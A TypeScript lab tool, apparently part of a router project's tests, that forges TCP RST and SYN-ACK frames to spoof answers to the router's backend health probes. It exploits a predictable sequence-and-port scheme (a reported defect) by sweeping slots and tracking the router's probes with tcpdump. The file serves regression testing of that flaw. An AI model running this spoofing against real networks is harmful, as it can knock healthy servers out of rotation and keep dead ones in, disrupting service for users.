// SPDX-License-Identifier: Apache-2.0
// A host on the private LAN that forges answers to the router's health probes (issue 14, defect
// 7), for the tests: RSTs "from" a live real to take it down, SYN-ACKs "from" a dead one to keep
// it up. It predicts probes the way the old scheme made them predictable: slots handed out FIFO,
// seq = slot << 16 | generation, source port 61440 + ((slot + generation) & 4095); for each slot
// it predicts, it sends the answer that scheme would take. Two ways, both at once:
//  - sweep: every slot of generation 1 (a daemon that started less than 65,536 probes ago), a
//    few per turn;
//  - follow: the host is itself a checked real, so it sees its own probes' SYNs (tcpdump on its
//    interface, to `follow.port`); the slot and generation in their seq say where the daemon's
//    FIFO is, and the next `follow.ahead` slots are hit every turn: a forged answer is there as
//    soon as any probe takes one of them.
// It sends from its own MAC (spoofing the real's would move the LAN bridge's idea of where the
// real is). Bounded: stops after `ms`.
//
// Run inside the attacker's namespace:
//   node dist/lab/forge-probe-answers.js '{"ifname":"eth0","srcMac":"..","routerMac":"..",
//     "router":"10.77.0.1","forge":[{"from":"10.77.0.11","port":80,"flags":"RST,ACK"}],
//     "follow":{"port":80,"ahead":16},"ms":4000}'
// Prints one JSON line: frames sent, frames the device refused, turns, SYNs of its own seen.

import { spawn } from 'node:child_process';
import { createInterface } from 'node:readline';
import { setImmediate as turn } from 'node:timers/promises';
import { RawFrames, EAGAIN, ENOBUFS } from '../src/host/raw-frames.js';
import { libc } from '../src/kernel/libc.js';
import { buildFrame } from '../testing/frames.js';
import { InvalidArgumentError } from '../src/errors.js';

export interface ForgeSpec {
  ifname: string;
  srcMac: string; // the attacker's own (the test reads it: /sys is the host's under nsenter)
  routerMac: string;
  router: string; // the router's private address: the probes' source
  forge: Array<{ from: string; port: number; flags: 'RST,ACK' | 'SYN,ACK' }>;
  follow?: { port: number; ahead: number };
  ms: number;
}

const PORT_MIN = 61440;
const BURST = 256;
/** Sweep frames per turn: few, so the followed slots come round often. */
const SWEEP_TURN = 64;

/** The answers of `spec.forge` the old scheme takes for one slot and generation. */
function answers(spec: ForgeSpec, slot: number, gen: number): Buffer[] {
  const seq = ((slot << 16) | gen) >>> 0;
  const dport = PORT_MIN + ((slot + gen) & 4095);
  return spec.forge.map((f) => buildFrame({
    eth: { src: spec.srcMac, dst: spec.routerMac },
    l3: { kind: 'ipv4', src: f.from, dst: spec.router, id: slot, ttl: 64, l4: { kind: 'tcp', sport: f.port, dport, seq: 0x5eed0000 + slot, ack: (seq + 1) >>> 0, flags: f.flags, window: f.flags === 'RST,ACK' ? 0 : 65535 } },
  }));
}

/** Follows this host's own probes: the latest seq of a SYN to `port` from the router. */
function follow(spec: ForgeSpec, port: number, onSeq: (seq: number) => void): () => void {
  const dump = spawn('tcpdump', ['-l', '-n', '-S', '-i', spec.ifname, `tcp[tcpflags] == tcp-syn and src host ${spec.router} and dst port ${port}`], { stdio: ['ignore', 'pipe', 'ignore'] });
  createInterface({ input: dump.stdout! }).on('line', (line) => {
    const m = / seq (\d+),/.exec(line);
    if (m) onSeq(Number(m[1]));
  });
  return () => dump.kill();
}

async function main(): Promise<void> {
  const spec = JSON.parse(process.argv[2] ?? '') as ForgeSpec;
  if (!(spec.ms >= 1 && spec.ms <= 60_000)) throw new InvalidArgumentError('ms', spec.ms, 'must be 1..60000');
  const ifindex = libc.if_nametoindex(spec.ifname) as number;
  if (ifindex === 0) throw new InvalidArgumentError('ifname', spec.ifname, 'no such interface here');
  const sweep: Buffer[] = [];
  for (let slot = 0; slot < 4096; slot++) sweep.push(...answers(spec, slot, 1));
  let ahead: Buffer[] = [];
  let seen = 0;
  const stop = spec.follow === undefined ? () => {} : follow(spec, spec.follow.port, (seq) => {
    seen++;
    const slot = seq >>> 16, gen = seq & 0xffff;
    ahead = [];
    for (let s = slot + 1; s <= slot + spec.follow!.ahead && s < 65536; s++) ahead.push(...answers(spec, s, gen));
  });
  const raw = new RawFrames({ ifindex, batch: BURST, frameMax: 128 });
  const end = Date.now() + spec.ms;
  let sent = 0, refused = 0, turns = 0, next = 0;
  const send = (chunk: Buffer[]): void => {
    for (let i = 0; i < chunk.length; i += BURST) {
      const part = chunk.slice(i, i + BURST);
      const r = raw.sendFrames(part);
      if (r.errno !== 0 && r.errno !== EAGAIN && r.errno !== ENOBUFS) throw new Error(`sendmmsg: errno ${r.errno}`);
      sent += r.sent;
      refused += part.length - r.sent;
    }
  };
  try {
    while (Date.now() < end) {
      send(ahead);
      send(sweep.slice(next, next + SWEEP_TURN));
      next = (next + SWEEP_TURN) % sweep.length;
      turns++;
      await turn(); // tcpdump's lines come in between
    }
  } finally {
    raw.close();
    stop();
  }
  process.stdout.write(`${JSON.stringify({ sent, refused, turns, seen })}\n`);
}

void main().catch((e: unknown) => {
  console.error(e);
  process.exit(1);
});
